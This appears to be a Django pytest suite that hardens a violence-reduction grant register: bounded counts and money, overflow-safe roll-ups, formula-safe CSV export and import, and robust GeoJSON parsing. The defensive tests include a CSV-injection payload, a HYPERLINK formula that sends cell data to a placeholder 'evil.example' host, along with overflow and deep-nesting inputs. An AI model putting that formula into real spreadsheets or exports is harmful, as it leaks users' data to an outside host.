"""Programme register hardening: bounded counts and amounts (form, import,
model, database), roll-ups that cannot overflow, spreadsheet-safe CSV exports that import back
unchanged, and boundaries (large, odd keys, lone surrogates, deep nesting) that give a message instead
of a 500."""

from __future__ import annotations

import csv
import datetime as dt
import importlib
import io
import json
import math
import time
from decimal import Decimal

import pytest
from django.apps import apps as django_apps
from django.core.exceptions import ValidationError
from django.db import DataError, IntegrityError, connection, transaction
from django.urls import reverse
from factories import (
    BRENT,
    SOUTHWARK,
    SQUARE,
    awarded_grant,
    consortium,
    estate,
    partners,
    signed_in,
    user,
)
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vru.outputs import csvsafe
from vru.web.accounts.models import Organisation
from vru.web.programme import csvio, geojson, scope
from vru.web.programme.models import (
    AGE_BAND_FIELDS,
    MAX_COUNT,
    MAX_MONEY,
    Consortium,
    Grant,
    GrantStatusChange,
    Intervention,
    Membership,
    ProgrammeArea,
    validate_geometry,
)

pytestmark = pytest.mark.django_db

ATTACK = 2**63 - 1  # 9223372036854775807: accepted before the bounds, and SQLite's SUM then overflowed
PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
COUNTS = ["sessions_delivered", *AGE_BAND_FIELDS]
SQLITE = connection.vendor == "sqlite"


@pytest.fixture
def world(db):
    alpha, beta = partners(2)
    area = estate(["E01003911"])
    cons = consortium("Alpha consortium", area, alpha, beta)
    grant = awarded_grant(cons, "T-A", "700000", "650000", dt.date(2021, 9, 1), dt.date(2022, 8, 31))
    act = Intervention.objects.create(grant=grant, kind="mentoring", name="Mentoring", year=2022,
                                      sessions_delivered=100, reached_10_13=5, reached_14_17=7)
    users = {"pm": user("pm@example.org", "programme manager"),
             "provider": user("staff@alpha.example.org", "provider", alpha)}
    return {"orgs": (alpha, beta), "area": area, "consortium": cons, "grant": grant, "act": act,
            "users": users}


def _counts():
    return [m.objects.count() for m in (ProgrammeArea, Consortium, Membership, Grant, GrantStatusChange,
                                        Intervention)]


def _error_next_to(html: str, field: str, text: str) -> bool:
    marker = f'id="id_{field}-error" class="govuk-error-message">'
    return marker in html and text in html.split(marker, 1)[1].split("</p>", 1)[0]


def _csv(rows) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def _act_post(**over):
    data = {"kind": "sport", "name": "Friday club", "year": "2022", "sessions_delivered": "10",
            **{f: "0" for f in AGE_BAND_FIELDS}}
    data.update(over)
    return data


# --- item 2: every count and amount bounded ------------------------------------------------------------

@pytest.mark.parametrize("field", COUNTS)
def test_the_attack_number_is_refused_by_the_delivery_form(world, field):
    before = _counts()
    url = reverse("programme:intervention_create", kwargs={"grant_pk": world["grant"].pk})
    r = signed_in(world["users"]["provider"]).post(url, _act_post(**{field: str(ATTACK)}))
    assert r.status_code == 200
    assert _error_next_to(r.content.decode(), field, "Enter at most 1,000,000")
    assert _counts() == before
    # the largest allowed value is accepted
    r = signed_in(world["users"]["provider"]).post(url, _act_post(**{field: str(MAX_COUNT)}))
    assert r.status_code == 302
    assert getattr(Intervention.objects.get(name="Friday club"), field) == MAX_COUNT


def test_the_attack_number_is_refused_by_the_import_naming_row_and_column(world):
    before = _counts()
    ok = ["T-A", "Boxing", "2022", "sport", "48", "0", "10", "12", "3", "0", "25"]
    bad = ["T-A", "Talks", "2022", "other", "1", str(ATTACK), "1", "1", "1", "1", ""]
    res = csvio.import_csv("interventions", _csv([csvio.COLUMNS["interventions"], ok, bad]))
    assert res.errors == ["Row 3, column reached_under_10: Enter at most 1,000,000 (the most one record "
                          "may hold)"]
    assert _counts() == before
    # a total that no record could reach is refused too, not compared with overflowing sums
    res = csvio.import_csv("interventions", _csv([csvio.COLUMNS["interventions"], ok[:-1] + [str(ATTACK)]]))
    assert res.errors and res.errors[0].startswith("Row 2, column people_reached: ")
    assert _counts() == before


@pytest.mark.parametrize("field", COUNTS)
def test_the_model_and_the_database_refuse_counts_out_of_bounds(world, field):
    make = dict(grant=world["grant"], kind="sport", name="Raw", year=2022)
    for value in (ATTACK, MAX_COUNT + 1, -1):
        with pytest.raises(ValidationError) as e:
            Intervention(**make, **{field: value}).full_clean()
        assert field in e.value.message_dict
    # a direct ORM create and a bulk insert, bypassing every form and full_clean
    refused = IntegrityError if SQLITE else (IntegrityError, DataError)  # PostgreSQL int4: out of range
    for value in (ATTACK, MAX_COUNT + 1):
        with pytest.raises(refused), transaction.atomic():
            Intervention.objects.create(**make, **{field: value})
        with pytest.raises(refused), transaction.atomic():
            Intervention.objects.bulk_create([Intervention(**make, **{field: value})])
    with pytest.raises(IntegrityError), transaction.atomic():  # the exact new bound, on both databases
        Intervention.objects.bulk_create([Intervention(**make, **{field: MAX_COUNT + 1})])
    Intervention.objects.create(**make, **{field: MAX_COUNT})
    assert not Intervention.objects.filter(**{f"{field}__gt": MAX_COUNT}).exists()


def test_money_and_dates_are_bounded_in_the_model_the_database_and_the_forms(world):
    cons, pm = world["consortium"], world["users"]["pm"]
    too_much = MAX_MONEY + Decimal("0.01")
    g = Grant(reference="T-BIG", consortium=cons, amount_requested=Decimal("1"), cap=too_much)
    with pytest.raises(ValidationError) as e:
        g.full_clean()
    assert "cap" in e.value.message_dict
    with pytest.raises(IntegrityError), transaction.atomic():
        g.save()
    Grant(reference="T-MAX", consortium=cons, amount_requested=MAX_MONEY, cap=MAX_MONEY).full_clean()
    with pytest.raises(IntegrityError), transaction.atomic():
        GrantStatusChange.objects.create(grant=world["grant"], to_status="awarded", amount_awarded=too_much)
    early = Grant(reference="T-OLD", consortium=cons, amount_requested=Decimal("1"),
                  start_date=dt.date(1, 1, 1), end_date=dt.date(9999, 12, 31))
    with pytest.raises(ValidationError) as e:
        early.full_clean()
    assert set(e.value.message_dict) == {"start_date", "end_date"}
    with pytest.raises(IntegrityError), transaction.atomic():
        early.save()
    before = _counts()
    r = signed_in(pm).post(reverse("programme:grant_create"), {
        "reference": "T-NEW", "consortium": str(cons.pk), "amount_requested": "1",
        "cap": str(too_much), "start_date": "0001-01-01", "end_date": ""})
    html = r.content.decode()
    assert r.status_code == 200 and _error_next_to(html, "cap", "Enter at most £100,000,000")
    assert _error_next_to(html, "start_date", "enter a date from 2000 to 2100")
    row = ["T-IMP", "Alpha consortium", "bid", "1", "", str(too_much), "", ""]
    res = csvio.import_csv("grants", _csv([csvio.COLUMNS["grants"], row]))
    assert res.errors == ["Row 2, column cap: Enter at most £100,000,000"]
    r = signed_in(pm).post(reverse("programme:grant", kwargs={"pk": world["grant"].pk}), {
        "to_status": "extended", "end_date": "2023-03-31", "additional_amount": "1e15"})
    assert r.status_code == 200 and "govuk-error-summary" in r.content.decode()
    assert _counts() == before


def _max_world(w, n_grants=8, n_per_grant=40):
    """``n_grants`` grants at the largest cap and award, each with ``n_per_grant`` interventions holding
    the largest count in every field (bulk-inserted: the database's constraints still apply)."""
    cons = w["consortium"]
    grants = []
    for i in range(n_grants):
        g = Grant.objects.create(reference=f"T-MAX-{i}", consortium=cons, amount_requested=MAX_MONEY,
                                 cap=MAX_MONEY)
        g.transition("awarded", amount_awarded=MAX_MONEY, start_date=dt.date(2021, 1, 1),
                     end_date=dt.date(2025, 12, 31))
        grants.append(g)
    Intervention.objects.bulk_create([
        Intervention(grant=g, kind="sport", name=f"Max {j}", year=2021 + j % 5,
                     **{f: MAX_COUNT for f in COUNTS})
        for g in grants for j in range(n_per_grant)])
    return n_grants * n_per_grant


def test_largest_allowed_values_in_many_rows_keep_every_roll_up_answering(world, settings, london_warehouse):
    settings.VRU_WAREHOUSE = str(london_warehouse)
    n = _max_world(world)
    pm = signed_in(world["users"]["pm"])
    for url in [reverse("programme:index"), reverse("dashboard:overview"),
                reverse("dashboard:borough", args=[SOUTHWARK]),
                *(reverse("programme:export", kwargs={"table": f"rollup-{by}"}) for by in scope.ROLLUP_BY),
                *(reverse("programme-api-rollup", kwargs={"by": by}) for by in scope.ROLLUP_BY),
                reverse("programme-api-interventions")]:
        r = pm.get(url)
        assert r.status_code == 200, url
    total = pm.get(reverse("programme-api-rollup", kwargs={"by": "borough"})).json()["total"]
    assert total["reached_under_10"] == n * MAX_COUNT
    assert total["people_reached"] == n * MAX_COUNT * len(AGE_BAND_FIELDS) + 12
    assert Decimal(total["amount_awarded"]) == 8 * MAX_MONEY + Decimal("650000")
    text = pm.get(reverse("programme:export", kwargs={"table": "rollup-borough"})).content.decode()
    assert list(csv.DictReader(io.StringIO(text)))[-1]["sessions_delivered"] == str(n * MAX_COUNT + 100)
    assert "£800,650,000" in pm.get(reverse("programme:index")).content.decode()


def test_the_worst_case_sum_cannot_overflow():
    """With the bounds, a roll-up sum passes a signed 64-bit integer only if one group holds more than
    9.2 trillion interventions, about 1,000 for every person alive; at a few tens of bytes each (the
    smallest a row can take) they would not fit in the largest database SQLite (2^48 bytes) or a
    PostgreSQL table (32 TB) can hold. Money: more than 900 million grants at the largest cap, even
    counted in pence (the programme has had tens)."""
    int64 = 2**63 - 1
    rows_to_overflow = math.ceil(int64 / MAX_COUNT)
    assert rows_to_overflow > 9 * 10**12
    min_row_bytes = 32  # record header, id, grant, year, kind, six counts, name, timestamp: far more
    assert rows_to_overflow * min_row_bytes > 2**48 and rows_to_overflow * min_row_bytes > 32 * 2**40
    # money is Decimal pounds with pence: the database sums pence-exact values up to MAX_MONEY each
    assert math.ceil(int64 / (MAX_MONEY * 100)) > 9 * 10**8
    # PostgreSQL stores the counts as int4 and sums int4 into int8; int4 itself holds 2,147 x MAX_COUNT
    assert MAX_COUNT * len(AGE_BAND_FIELDS) < 2**31 - 1


@pytest.mark.sqlite
@pytest.mark.skipif(not SQLITE, reason="PostgreSQL's int4 columns could never hold the value")
def test_a_row_stored_before_the_bounds_does_not_take_the_register_down(world, settings, london_warehouse):
    """A database that kept the attack row (written before these bounds; the migration's check names it
    and the constraint refuses it now): the roll-ups add up in Python instead of answering 500."""
    settings.VRU_WAREHOUSE = str(london_warehouse)
    with connection.cursor() as cur:
        cur.execute("PRAGMA ignore_check_constraints = ON")
        try:
            Intervention.objects.create(grant=world["grant"], kind="sport", name="Attack", year=2022,
                                        reached_under_10=ATTACK)
            Intervention.objects.create(grant=world["grant"], kind="sport", name="Attack 2", year=2022,
                                        reached_under_10=ATTACK)
        finally:
            cur.execute("PRAGMA ignore_check_constraints = OFF")
    pm = signed_in(world["users"]["pm"])
    for url in [reverse("programme:index"), reverse("dashboard:overview"),
                reverse("programme:export", kwargs={"table": "rollup-area"}),
                reverse("programme-api-rollup", kwargs={"by": "year"})]:
        assert pm.get(url).status_code == 200, url
    assert scope.rollup(world["users"]["pm"], "area").total["reached_under_10"] == 2 * ATTACK
    # and the migration adding the constraints names the row to correct instead of failing blindly
    migration = importlib.import_module("vru.web.programme.migrations.0003_bounds")
    with pytest.raises(RuntimeError) as e:
        migration.refuse_out_of_bounds(django_apps, None)
    attack = Intervention.objects.get(name="Attack")
    assert f"intervention {attack.pk}: reached_under_10 = {ATTACK}" in str(e.value)
    Intervention.objects.filter(name__startswith="Attack").delete()
    migration.refuse_out_of_bounds(django_apps, None)  # nothing out of bounds: passes


# --- item 3: spreadsheet-safe exports that import back unchanged ----------------------------------------

TEXTS = [PAYLOAD, "- 5 sessions", "@home", "+44 club", "\tTab first", "\r=1+1", "'=quoted", "-5"]


def _export(client, table) -> bytes:
    r = client.get(reverse("programme:export", kwargs={"table": table}))
    assert r.status_code == 200
    return r.content


def _formula(cell: str) -> bool:
    """Would a spreadsheet run this cell (it starts with a trigger and is not a number)?"""
    return bool(cell) and cell[0] in csvsafe.TRIGGERS and not csvsafe._is_number(cell)


def _cells(data: bytes):
    return [c for row in csv.reader(io.StringIO(data.decode(), newline="")) for c in row]


def test_every_export_neutralises_formulas_and_imports_back_to_the_same_records(world):
    alpha, beta = world["orgs"]
    Organisation.objects.filter(pk=beta.pk).update(name="@Beta")
    area = ProgrammeArea.objects.create(name=PAYLOAD, kind="ward", borough=BRENT, selected_year=2022)
    cons = Consortium.objects.create(name="=SUM(A1:A9)", area=area, lead=beta)
    grant = Grant.objects.create(reference="-G1", consortium=cons, amount_requested=Decimal("10"))
    grant.transition("awarded", amount_awarded=Decimal("5"), start_date=dt.date(2022, 1, 1),
                     end_date=dt.date(2023, 1, 1))
    for i, text in enumerate(TEXTS):
        Intervention.objects.create(grant=grant, kind="other", name=text, year=2022, sessions_delivered=i)
    pm = signed_in(world["users"]["pm"])
    files = {t: _export(pm, t) for t in csvio.TABLES}
    rollups = {by: _export(pm, f"rollup-{by}") for by in scope.ROLLUP_BY}
    for name, data in [*files.items(), *rollups.items()]:
        for cell in _cells(data):
            assert not _formula(cell), (name, cell)
    assert "'" + PAYLOAD in _cells(files["interventions"]) and "'" + PAYLOAD in _cells(files["areas"])
    assert "'=SUM(A1:A9)" in _cells(files["consortia"]) and "'-G1" in _cells(files["grants"])
    assert f"'{PAYLOAD}, Brent" in _cells(rollups["area"])
    assert "-5" in _cells(files["interventions"])  # text that is a number is written as it is
    # re-import: nothing changes; into an empty register: the same records, the same files
    for t in csvio.TABLES:
        res = csvio.import_csv(t, files[t])
        assert res.ok and (res.created, res.updated) == (0, 0), (t, res.errors)
    before = sorted(Intervention.objects.values_list("name", "sessions_delivered"))
    Intervention.objects.all().delete()
    Grant.objects.all().delete()
    Consortium.objects.all().delete()
    ProgrammeArea.objects.all().delete()
    for t in csvio.TABLES:
        res = csvio.import_csv(t, files[t])
        assert res.ok and res.created > 0, (t, res.errors)
    assert sorted(Intervention.objects.values_list("name", "sessions_delivered")) == before
    assert set(Intervention.objects.values_list("name", flat=True)) >= set(TEXTS)
    assert ProgrammeArea.objects.filter(name=PAYLOAD).exists()
    assert Grant.objects.get(reference="-G1").consortium.name == "=SUM(A1:A9)"
    assert {t: _export(pm, t) for t in csvio.TABLES} == files


def test_numbers_typed_in_an_import_stay_numbers(world):
    res = csvio.import_csv("interventions", _csv([csvio.COLUMNS["interventions"],
                                                  ["T-A", "Neg", "2022", "sport", "-5", "0", "0", "0", "0",
                                                   "0", ""]]))
    assert res.errors == ["Row 2, column sessions_delivered: Ensure this value is greater than or equal to "
                          "0."]
    # a cell a person typed with the spreadsheet's quote is read as a spreadsheet shows it
    res = csvio.import_csv("interventions", _csv([csvio.COLUMNS["interventions"],
                                                  ["T-A", "'=Quoted", "2022", "sport", "'-0", "0", "0", "0",
                                                   "0", "0", ""]]))
    assert res.ok, res.errors
    assert Intervention.objects.get(name="=Quoted").sessions_delivered == 0


class _Undo(Exception):
    pass


_STORABLE = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"),
                    min_size=1, max_size=60).filter(lambda s: s.strip() == s or csvsafe.neutralise(s) != s)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=_STORABLE)
def test_any_name_survives_the_real_export_and_import(world, name):
    """Any text a record can hold (the forms strip surrounding whitespace; a cell the export
    neutralised comes back exactly, tabs and carriage returns included) is the same after
    ``csvio.write_csv`` and ``csvio.import_csv``."""
    try:
        with transaction.atomic():
            act = world["act"]
            Intervention.objects.filter(pk=act.pk).update(name=name)
            out = io.StringIO()
            csvio.write_csv(out, "interventions", scope.interventions_for(world["users"]["pm"]))
            data = out.getvalue().encode()
            assert not any(_formula(cell) for cell in _cells(data))
            assert csvio.import_csv("interventions", data).unchanged == 1
            Intervention.objects.all().delete()
            res = csvio.import_csv("interventions", data)
            assert res.ok and res.created == 1, res.errors
            assert Intervention.objects.get().name == name
            raise _Undo
    except _Undo:
        pass


# --- item 8: boundaries that are large, odd, not Unicode or deeply nested --------------------------------

def _circle(n: int) -> dict:
    """A valid polygon in Southwark with ``n`` vertices, written with many decimals."""
    pts = [[round(-0.085 + 0.003 * math.cos(2 * math.pi * i / n), 12),
            round(51.473 + 0.002 * math.sin(2 * math.pi * i / n), 12)] for i in range(n)]
    return {"type": "Polygon", "coordinates": [pts + [pts[0]]]}


def _area_post(**over):
    data = {"name": "Large estate (test)", "kind": "estate", "borough": SOUTHWARK, "selected_year": "2024",
            "funding_round": "2", "lsoa_codes": "", "geometry": json.dumps(SQUARE)}
    data.update(over)
    return data


def test_a_boundary_over_the_csv_modules_default_limit_round_trips(world):
    big = _circle(6000)
    text = json.dumps(big, separators=(",", ":"))
    assert len(text) > 131_072
    pm = signed_in(world["users"]["pm"])
    f = io.BytesIO(text.encode())
    f.name = "big.geojson"
    r = pm.post(reverse("programme:area_create"), _area_post(geometry="", geometry_file=f))
    assert r.status_code == 302, r.content.decode()[-3000:]
    exported = _export(pm, "areas")
    ProgrammeArea.objects.filter(name="Large estate (test)").delete()
    f = io.BytesIO(exported)
    f.name = "areas.csv"
    r = pm.post(reverse("programme:import"), {"table": "areas", "file": f})
    assert r.status_code == 302, r.content.decode()[-3000:]
    assert ProgrammeArea.objects.get(name="Large estate (test)").geometry == big
    assert _export(pm, "areas") == exported


def test_a_boundary_larger_than_the_form_accepts_is_a_per_record_error(world):
    before = _counts()
    huge = json.dumps(_circle(160_000), separators=(",", ":"))
    assert len(huge) > geojson.MAX_GEOMETRY_CHARS and len(huge) < csvio.MAX_BYTES
    res = csvio.import_csv("areas", _csv([csvio.COLUMNS["areas"],
                                          [SOUTHWARK, "Ok estate", "estate", "2022", "1", "",
                                           json.dumps(SQUARE)],
                                          [SOUTHWARK, "Huge estate", "estate", "2022", "1", "", huge]]))
    assert res.errors == [f"Row 3, column geometry: Not valid GeoJSON: the text is {len(huge):,} characters "
                          "long; at most 5,242,880 are accepted"]
    assert _counts() == before
    with pytest.raises(ValidationError, match="at most 5,242,880 are accepted"):
        validate_geometry(json.loads(huge))


BAD_BOUNDARIES = [
    ('{"type":"Polygon","coordinates":[[[-0.088,51.471],[-0.082,51.471],[-0.082,51.475],[-0.088,51.471]]],'
     '"name":"\\ud800"}', "lone surrogate"),
    ('{"type":"Polygon","coordinates":[[[-0.088,51.471],[-0.082,51.471],[-0.082,51.475],[-0.088,51.471]]],'
     '"crs":"EPSG:27700"}', "the crs must name a coordinate reference system"),
    ('{"type":"Polygon","coordinates":[[[-0.088,51.471],[-0.082,51.471],[-0.082,51.475],[-0.088,51.471]]],'
     '"crs":{"properties":"x"}}', "the crs must name a coordinate reference system"),
    ('{"type":"FeatureCollection","features":{"0":{}}}', "no list of features"),
    ('{"type":"FeatureCollection","features":5}', "no list of features"),
    ('{"type":"Polygon","coordinates":[[[NaN,51.471],[-0.082,51.471],[-0.082,51.475],[NaN,51.471]]]}',
     "NaN is not a number JSON allows"),
    ('{"type":"Polygon","coordinates":[[[1e999,51.471],[-0.082,51.471],[-0.082,51.475],[1e999,51.471]]]}',
     "out of range"),
    ('{"type":"Polygon","coordinates":[[[true,51.471],[-0.082,51.471],[-0.082,51.475],[true,51.471]]]}',
     "a position must be 2 or 3 numbers"),
    ('{"type":"Polygon","coordinates":"x"}', "not a valid Polygon"),
    ('{"type":["Polygon"],"coordinates":[]}', "not 'list'"),
    ("[" * 100_000, "nested more than 20 levels deep"),
    ('{"a":' * 100_000, "nested more than 20 levels deep"),
    ('{"type":"Polygon","coordinates":' + "[" * 30 + "]" * 30 + "}", "nested more than 20 levels deep"),
]


@pytest.mark.parametrize("text, message", BAD_BOUNDARIES)
def test_bad_boundaries_are_a_message_next_to_the_field_and_nothing_is_saved(world, text, message):
    before = _counts()
    pm = signed_in(world["users"]["pm"])
    r = pm.post(reverse("programme:area_create"), _area_post(geometry=text))
    assert r.status_code == 200
    html = r.content.decode()
    assert _error_next_to(html, "geometry", message.replace("'", "&#x27;")), \
        html.split("govuk-error-summary", 1)[-1][:1500]
    # uploaded as a file: the same message next to the upload
    f = io.BytesIO(text.encode())
    f.name = "bad.geojson"
    r = pm.post(reverse("programme:area_create"), _area_post(geometry="", geometry_file=f))
    assert r.status_code == 200
    assert _error_next_to(r.content.decode(), "geometry_file", message.replace("'", "&#x27;"))
    # imported: a per-record error naming row and column
    res = csvio.import_csv("areas", _csv([csvio.COLUMNS["areas"],
                                          [SOUTHWARK, "Bad estate", "estate", "2022", "1", "", text]]))
    assert len(res.errors) == 1 and res.errors[0].startswith("Row 2, column geometry: ")
    assert message in res.errors[0]
    assert _counts() == before


@pytest.mark.parametrize("text", ['"' + '\\"' * 1_000_000, '"\\"' * 700_000 + "\\", "[" * 5_000_000,
                                  '"[' * 2_000_000])
def test_reading_a_boundary_takes_time_linear_in_its_size(text):
    """Unterminated strings full of escaped quotes made the nesting check quadratic (hours for 2 MB)."""
    started = time.monotonic()
    with pytest.raises(ValidationError):
        geojson.loads(text)
    assert time.monotonic() - started < 10


def test_extra_keys_are_dropped_and_the_canonical_boundary_is_stored(world):
    extra = {**SQUARE, "bbox": [-0.088, 51.471, -0.082, 51.475], "name": "x", "properties": {"a": [1]},
             "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}}}
    r = signed_in(world["users"]["pm"]).post(reverse("programme:area_create"),
                                           _area_post(geometry=json.dumps(extra)))
    assert r.status_code == 302
    assert ProgrammeArea.objects.get(name="Large estate (test)").geometry == SQUARE
    area = world["area"]
    area.geometry = extra
    area.full_clean()
    assert area.geometry == SQUARE


def test_a_stored_bad_boundary_cannot_take_down_the_api_or_the_pages(world):
    """Rows written before these rules: shown without a boundary (or with the canonical one), never a 500."""
    area = world["area"]
    pm = signed_in(world["users"]["pm"])
    far = {"type": "Polygon", "coordinates": [[[100, 80], [101, 80], [101, 81], [100, 80]]]}
    bowtie = {"type": "Polygon", "coordinates": [[[-0.09, 51.47], [-0.08, 51.48], [-0.08, 51.47],
                                                  [-0.09, 51.48], [-0.09, 51.47]]]}
    bad = [({"type": "Polygon", "coordinates": "x", "crs": "EPSG:27700"}, None),
           ({"type": "Polygon", "coordinates": [[[-0.088, "51.471"]]]}, None),
           ({"type": "Polygon", "coordinates": [[[-0.088, 51.471]]]}, None),
           ({"type": "MultiPolygon", "coordinates": [[[[-0.088, 51.471], [-0.08, 51.4]]]]}, None),
           (["not", "an", "object"], None), (far, far), (bowtie, bowtie)]
    if SQLITE:  # PostgreSQL's jsonb refuses a lone surrogate, so only SQLite could hold one
        bad.append(({**SQUARE, "name": "\ud800"}, SQUARE))
    for value, shown in bad:
        ProgrammeArea.objects.filter(pk=area.pk).update(geometry=value, lsoa_codes=["E01003911", "\ud800"]
                                                        if SQLITE else ["E01003911", 5])
        for url in [reverse("programme-api-areas"), reverse("programme-api-area", kwargs={"pk": area.pk}),
                    reverse("programme:area", kwargs={"pk": area.pk}),
                    reverse("programme:area_edit", kwargs={"pk": area.pk}),
                    reverse("programme:export", kwargs={"table": "areas"})]:
            r = pm.get(url)
            assert r.status_code == 200, (value, url)
        one = pm.get(reverse("programme-api-area", kwargs={"pk": area.pk})).json()
        assert one["geometry"] == shown
        assert one["lsoa_codes"] == ["E01003911"]


def test_the_admin_reads_json_strictly(world):
    pm = world["users"]["pm"]
    pm.is_staff = True
    pm.save()
    area = world["area"]
    data = {"name": area.name, "kind": "estate", "borough": SOUTHWARK, "selected_year": "2021",
            "funding_round": "1", "lsoa_codes": '["E01003911"]', "geometry": "[" * 100_000}
    r = signed_in(pm).post(f"/admin/programme/programmearea/{area.pk}/change/", data)
    assert r.status_code == 200 and "nested more than 20 levels deep" in r.content.decode()
    data["geometry"] = json.dumps({**SQUARE, "x": "\ud800"})
    r = signed_in(pm).post(f"/admin/programme/programmearea/{area.pk}/change/", data)
    assert r.status_code == 200 and "lone surrogate" in r.content.decode()
    area.refresh_from_db()
    assert area.geometry == SQUARE
    data["geometry"] = json.dumps({**SQUARE, "bbox": [0, 0, 0, 0]})
    r = signed_in(pm).post(f"/admin/programme/programmearea/{area.pk}/change/", data)
    assert r.status_code == 302
    area.refresh_from_db()
    assert area.geometry == SQUARE


# --- other input the app parses -------------------------------------------------------------------------

def test_odd_numbers_in_query_strings_and_import_keys_are_not_a_crash(world):
    pm = signed_in(world["users"]["pm"])
    for value in ["²", "٣", "9" * 5000, "99999999999999999999999"]:
        assert pm.get(reverse("programme:consortium_create"), {"area": value}).status_code == 200
        assert pm.get(reverse("programme:grant_create"), {"consortium": value}).status_code == 200
        res = csvio.import_csv("interventions", _csv([csvio.COLUMNS["interventions"],
                                                      ["T-A", "Odd", value, "sport", "1", "0", "0", "0", "0",
                                                       "0", ""]]))
        assert res.errors and res.errors[0].startswith("Row 2, column year: "), res.errors
    for q in ["offset=99999999999999999999999", "limit=99999999999999999999999", "offset=-1"]:
        assert pm.get(reverse("programme-api-interventions") + "?" + q).status_code in (200, 400), q


def test_a_file_the_csv_module_cannot_read_is_an_error_not_a_crash(world):
    res = csvio.import_csv("areas", b'borough,name,kind,selected_year,funding_round,lsoa_codes,geometry\n'
                                    + b'"' + b"x" * (csvio.MAX_BYTES - 100))
    assert res.errors and not res.ok
